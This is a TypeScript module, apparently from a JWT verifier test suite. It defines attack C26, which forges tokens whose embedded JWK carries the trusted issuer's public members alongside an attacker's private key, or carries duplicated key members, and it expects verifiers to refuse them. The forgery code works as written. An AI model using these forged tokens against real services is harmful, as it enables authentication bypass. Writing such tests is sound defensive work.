import type { ForgeContext, Forgery, TokenAttack } from '../attack.ts';
import { type AttackerKey, attackerKey, likelyAlgs } from '../attacker-forgery.ts';
import type { Jwk } from '../jwk.ts';
import { thumbprint } from '../thumbprint.ts';
import { freshClaims, writeSignedToken } from '../unsafe-writer.ts';

/** C26. */
export const foreignHalf: TokenAttack = {
  kind: 'token',
  id: 'C26',
  title: 'A key whose thumbprint is the issuer’s and whose other half is not',
  severity: 'high',
  cwe: 347,
  source: ['RFC 7638 §3', 'RFC 8037 §2', 'RFC 7515 §4.1.3'],
  how: 'A thumbprint is made of the public members of a key alone. A key in which the public members are the issuer’s and the private one is the attacker’s has the trusted thumbprint, and some libraries work out the public key anew from the private member and verify with that. A member that stands twice does the same: one reader compares the first, another uses the last.',
  victims: [],
  fix: 'Take no key from a token. Where keys are imported, refuse private members in a public place, compute the public half of a private key and compare it, and refuse duplicate members.',
  needs: ['public-key'],
  expect: 'refused',
  forge: async (context) => {
    const trusted = context.keys[0]?.jwk;
    if (trusted === undefined) return [];
    const print = await thumbprint(trusted);
    const named = context.good.header['kid'];
    const kid = typeof named === 'string' ? named : print;
    const own = await ownKeyLike(context, trusted);
    const forgeries: Forgery[] = [];
    if (own !== undefined) {
      const mixed = mixedHalves(trusted, own);
      const forms: Readonly<Record<string, Jwk>> = {
        'private-half-of-mine': mixed,
        'with-the-known-kid': { ...mixed, kid },
        'with-the-thumbprint-as-kid': { ...mixed, kid: print },
      };
      for (const [variant, jwk] of Object.entries(forms)) {
        const header = { ...context.good.header, alg: own.alg, kid: jwk.kid, jwk };
        forgeries.push(await signedText(context, own, variant, JSON.stringify(header)));
      }
      const rest = { ...context.good.header, alg: own.alg, kid };
      forgeries.push(await twice(context, own, 'mine-behind', rest, trusted, own.publicJwk));
      forgeries.push(await twice(context, own, 'mine-before', rest, own.publicJwk, trusted));
    }
    return forgeries;
  },
};

/** The attacker's key of the same kind, curve included: only then do the members fit. */
async function ownKeyLike(context: ForgeContext, { kty, crv }: Jwk): Promise<AttackerKey | undefined> {
  const kinds: Readonly<Record<string, string>> = {
    'P-256': 'ES256',
    'P-384': 'ES384',
    'P-521': 'ES512',
    Ed25519: 'EdDSA',
  };
  const alg = kty === 'RSA' ? likelyAlgs(context).find((name) => /^[RP]S/.test(name)) : kinds[crv ?? ''];
  return alg === undefined ? undefined : attackerKey(context, alg);
}

/** Public members of one key, private members of another. */
function mixedHalves(trusted: Jwk, { privateJwk }: AttackerKey): Jwk {
  const { kty, crv, x, y, n, e } = trusted;
  const members = { ...privateJwk, kty, crv, x, y, n, e };
  return Object.fromEntries(Object.entries(members).filter(([, value]) => value !== undefined));
}

/** A header whose key has every public member twice, first of one key and then of the other. */
async function twice(
  context: ForgeContext,
  own: AttackerKey,
  variant: string,
  rest: Readonly<Record<string, unknown>>,
  first: Jwk,
  last: Jwk,
): Promise<Forgery> {
  const members = [...membersOf(first), ...membersOf(last)].join(',');
  const text = `${JSON.stringify(rest).slice(0, -1)},"jwk":{${members}}}`;
  return signedText(context, own, variant, text);
}

function membersOf({ kty, crv, x, y, n, e }: Jwk): readonly string[] {
  return Object.entries({ kty, crv, x, y, n, e })
    .filter(([, value]) => value !== undefined)
    .map(([name, value]) => `${JSON.stringify(name)}:${JSON.stringify(value)}`);
}

async function signedText(context: ForgeContext, own: AttackerKey, variant: string, header: string): Promise<Forgery> {
  const signer = { alg: own.alg, jwk: own.privateJwk };
  const token = await writeSignedToken(header, freshClaims(context), signer);
  return { variant, token, proof: { kind: 'signature', alg: own.alg, key: own.publicJwk } };
}
